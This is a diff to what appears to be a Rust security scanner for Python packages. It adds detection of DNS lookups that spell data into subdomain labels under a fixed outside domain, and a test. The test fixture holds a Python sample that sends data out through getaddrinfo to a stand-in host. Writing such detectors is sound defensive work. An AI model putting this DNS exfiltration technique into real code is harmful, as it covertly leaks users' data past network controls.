@@ -21,6 +21,25 @@ const HTTP_VERBS: &[&str] = &[
     "get", "post", "put", "patch", "delete", "head", "request", "options",
 ];
 
+/// A host name whose leading labels are computed (`…`) under a fixed registered domain of at
+/// least two labels: `….….t.example-dns.net`. A name computed whole (`…`), or the machine's own
+/// name under a local suffix (`….local`), names no outside server.
+fn carries_data_in_labels(name: &str) -> bool {
+    let Some((computed, domain)) = name.rsplit_once(crate::fold::UNKNOWN) else {
+        return false;
+    };
+    let domain = domain.trim_start_matches('.');
+    let labels: Vec<&str> = domain.split('.').filter(|l| !l.is_empty()).collect();
+    let local = labels
+        .last()
+        .is_some_and(|tld| matches!(*tld, "local" | "localhost" | "internal" | "lan" | "home"));
+    // At least two computed pieces (`{chunk}.{n}`) say data is being spelled out.
+    computed.matches(crate::fold::UNKNOWN).count() >= 1
+        && labels.len() >= 2
+        && !local
+        && !domain.contains(crate::fold::UNKNOWN)
+}
+
 /// `URLDownloadToFileW` and its variants: urlmon's download of a URL (second argument) to a
 /// path (third).
 fn is_urlmon_download(function: &str) -> bool {
@@ -638,6 +657,15 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             .or_else(|| super::keyword(call, "uri")),
         _ => target_arg(call),
     };
+    // `getaddrinfo(f"{chunk}.{n}.t.example-dns.net")`: labels computed under a fixed domain
+    // carry data to that domain's name server, as a request body would.
+    if op == NetOp::Dns
+        && target_arg
+            .and_then(|target| super::partial_text(checker, target))
+            .is_some_and(|name| carries_data_in_labels(&name))
+    {
+        op = NetOp::Send;
+    }
     let constant_target = target_arg.is_some_and(|a| {
         checker.fold(a).is_some()
             || checker
@@ -1211,6 +1239,22 @@ mod tests {
             found
                 .iter()
                 .any(|f| f.rule == "WH120" && f.has_tag("runs-saved-file")),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn lookups_of_names_spelled_from_data_send_it() {
+        assert!(super::carries_data_in_labels("….….t.example-dns.net"));
+        assert!(!super::carries_data_in_labels("…"));
+        assert!(!super::carries_data_in_labels("….example.net"));
+        assert!(!super::carries_data_in_labels("….….svc.cluster.local"));
+        let code = "import socket, os\ndef publish(data):\n    for n, label in enumerate(data):\n        socket.getaddrinfo(f'{label}.{n}.t.example-dns.invalid', 80)\npublish(os.urandom(4).hex())\n";
+        let found = crate::rules::testing::findings("p/pkg/__init__.py", code);
+        assert!(
+            found
+                .iter()
+                .any(|f| f.rule == "WH130" && f.has_tag("net-send")),
             "{found:?}"
         );
     }
